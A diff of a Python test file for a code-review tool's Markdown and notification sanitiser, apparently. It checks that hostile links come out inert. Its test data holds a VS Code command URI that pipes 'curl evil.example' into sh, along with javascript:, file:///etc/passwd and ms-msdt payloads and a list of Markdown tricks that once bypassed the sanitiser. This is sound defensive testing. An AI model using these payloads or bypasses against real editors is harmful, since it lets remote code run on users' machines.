@@ -9,17 +9,18 @@ matching."""
 
 from __future__ import annotations
 
-import re
 from pathlib import Path
 
 import pytest
 from hypothesis import given, settings, strategies as st
-from markdown_it import MarkdownIt
+from lsprotocol import types
 
 from postil.analyzers.findings import Finding, Severity, Span
 from postil.analyzers.rules.loader import dropped_url_notes, load_rule_dirs
 from postil.gate.text import https_url, markdown, notice
 from postil.server.hover import describe
+from postil.server.notices import as_text
+from tests.gate.rendered import NOTIFICATION_LINK, PARSER, live, unsafe
 
 COMMAND = "command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil.example%7Csh%5Cn%22%7D"
 HOSTILE_URLS = [
@@ -79,43 +80,25 @@ def test_a_rule_url_that_is_not_https_is_dropped_and_named_once_per_rule(tmp_pat
 
 
 # --- Markdown, judged by a CommonMark + GFM tables parser ------------------------------------
-PARSER = MarkdownIt("commonmark").enable(["table", "strikethrough"])
-
-
-def live(text: str) -> list[tuple[str, str]]:
-    """What a renderer would make of ``text``: (kind, target) of every link, image and raw HTML."""
-    found: list[tuple[str, str]] = []
-
-    def walk(tokens) -> None:
-        for token in tokens:
-            if token.type == "link_open":
-                found.append(("link", str(token.attrs.get("href"))))
-            elif token.type == "image":
-                found.append(("image", str(token.attrs.get("src"))))
-            elif token.type in ("html_inline", "html_block"):
-                found.append(("html", token.content))
-            walk(token.children or [])
-
-    walk(PARSER.parse(text))
-    return found
-
-
-def unsafe(text: str, allowed: tuple[str, ...] = ()) -> list[tuple[str, str]]:
-    return [(kind, target) for kind, target in live(text)
-            if not (kind == "link" and (target.startswith("https://docs.python.org/") or target in allowed))]
-
-
 HOSTILE_NOTES = [
-    "![x](https://evil.example/x.png)", f"[click]({COMMAND})", "[f](file:///etc/passwd)",
-    "<img src=https://evil.example/p.png>", f'<a href="{COMMAND}">docs</a>', f"[x][1]\n\n[1]: {COMMAND}",
-    "<command:workbench.action.terminal.new>", f"[x][1]\n> [1]: {COMMAND}", f"[x]\n\n- [x]: <{COMMAND}>",
-    f"``[c]({COMMAND})`", f"\\`[c]({COMMAND})`", f"[a [b] c]({COMMAND})", f"`a\n\n[c]({COMMAND})\n`",
-    f"- item\n  ```\n[c]({COMMAND})\n```", f"```x`\n[c]({COMMAND})\n```", "[j](JaVaScRiPt:alert(1))",
-    f"| a | b |\n|---|---|\n| `x | [c]({COMMAND})` | z |", f"`a\\|b`\n---\n`[c]({COMMAND}) | y`",
-    "[v](vscode://vscode.git/clone?url=https://evil.example/r)", "[d](<data:text/html,x>)", "[p](//evil.example/x)",
-    "![x][img]\n\n[img]: https://evil.example/p.png", "www.evil.example and xhttp://evil.example/p and a@evil.example",
-    "<!-- x --><script>alert(1)</script>", "[ms](ms-msdt:/id PCWDiagnostic)",
+    "![x](https://evil.example/x.png)", f"[click]({COMMAND})", "[f](file:///etc/passwd)", "[j](JaVaScRiPt:alert(1))",
+    "<img src=https://evil.example/p.png>", f'<a href="{COMMAND}">docs</a>', "<!-- x --><script>alert(1)</script>",
+    f"[x][1]\n\n[1]: {COMMAND}", "![x][img]\n\n[img]: https://evil.example/p.png", f"<{COMMAND}>",
+    "[v](vscode://vscode.git/clone?url=https://evil.example/r)", "[d](data:text/html,x)", "[p](//evil.example/x)",
+    "[ms](ms-msdt:/id?PCWDiagnostic)", "see www.evil.example, xhttp://evil.example/p or a@evil.example",
 ]
+# Markdown the sanitiser used to pass live (it guessed code spans and fences a renderer reads otherwise).
+SANITISER_BYPASSES = [
+    f"``[c]({COMMAND})`", f"\\`[c]({COMMAND})`", f"[a [b] c]({COMMAND})", f"`a\n\n[c]({COMMAND})\n`",
+    f"- item\n  ```\n[c]({COMMAND})\n```", f"```x`\n[c]({COMMAND})\n```", f"[x][1]\n> [1]: {COMMAND}",
+    f"[x]\n\n- [x]: <{COMMAND}>", f"| a | b |\n|---|---|\n| `x | [c]({COMMAND})` | z |",
+    "> [1]: ms-msdt:/id\n\n[1]", "foo_www.evil.example and xhttp://evil.example/p",
+]
+
+
+@pytest.mark.parametrize("payload", SANITISER_BYPASSES, ids=lambda n: repr(n)[:40])
+def test_markdown_the_sanitiser_used_to_pass_live_is_inert(payload):
+    assert unsafe(markdown(payload)) == []
 
 
 @pytest.mark.parametrize("note", HOSTILE_NOTES, ids=lambda n: repr(n)[:40])
@@ -140,7 +123,7 @@ def test_the_hover_keeps_code_docs_links_and_the_rule_text():
 ATOMS = ["[", "]", "(", ")", "<", ">", "`", "``", "```", "~~~", "\\", "!", "|", "-", "---", "\n", "\n\n", " ", "    ",
          "> ", "- ", "1. ", ":", "'", '"', "*", "_", "#", "=", "&lt;", "&#91;", "<img src=x>", "<a href='x'>",
          COMMAND, "file:///etc", "https://evil.example/p", "https://docs.python.org/3/", "www.evil.example", "a@b.example",
-         "javascript:alert(1)", "[1]:", "[1]", "http://e.example", "ms-msdt:/x", "x"]
+         "javascript:alert(1)", "[1]:", "[1]", "http://e.example", "HTTPS://", "ms-msdt:/x", "//", "@", "%", "é", "x"]
 
 
 @settings(max_examples=400, deadline=None)
@@ -150,18 +133,21 @@ def test_no_markdown_survives_the_sanitiser_live(text):
 
 
 # --- a line for a notification --------------------------------------------------------------
-# VS Code makes these links in notifications (src/vs/base/common/linkedText.ts) and runs a
-# command: target on a click.
-NOTIFICATION_LINK = re.compile(r"\[([^\]]+)\]\(((?:https?://|command:|file:)[^)\s]+)(?: ([\"'])(.+?)(\3))?\)",
-                               re.IGNORECASE)
-
-
 @pytest.mark.parametrize("text", [f"rules/[run]({COMMAND}).yml: missing `language`",
                                   "[docs](https://docs.python.org/3/)", "[f](FILE:///etc/passwd) \x1b[2K"])
 def test_a_notification_line_holds_no_link(text):
     shown = notice(text)
     assert NOTIFICATION_LINK.search(shown) is None and "\x1b" not in shown
     assert "run" in shown or "docs" in shown or "f" in shown  # the words stay readable
+
+
+def test_the_servers_messages_and_progress_are_notification_lines():
+    name = f"[run]({COMMAND}).py"
+    shown = as_text(types.WINDOW_SHOW_MESSAGE, types.ShowMessageParams(type=types.MessageType.Error, message=name))
+    begun = as_text(types.PROGRESS, types.ProgressParams(token="t", value=types.WorkDoneProgressBegin(
+        title=f"postil: reviewing {name}", message=name)))
+    for text in (shown.message, begun.value.title, begun.value.message):
+        assert NOTIFICATION_LINK.search(text) is None and "command:" in text
 
 
 # --- what the CLI says --------------------------------------------------------------------
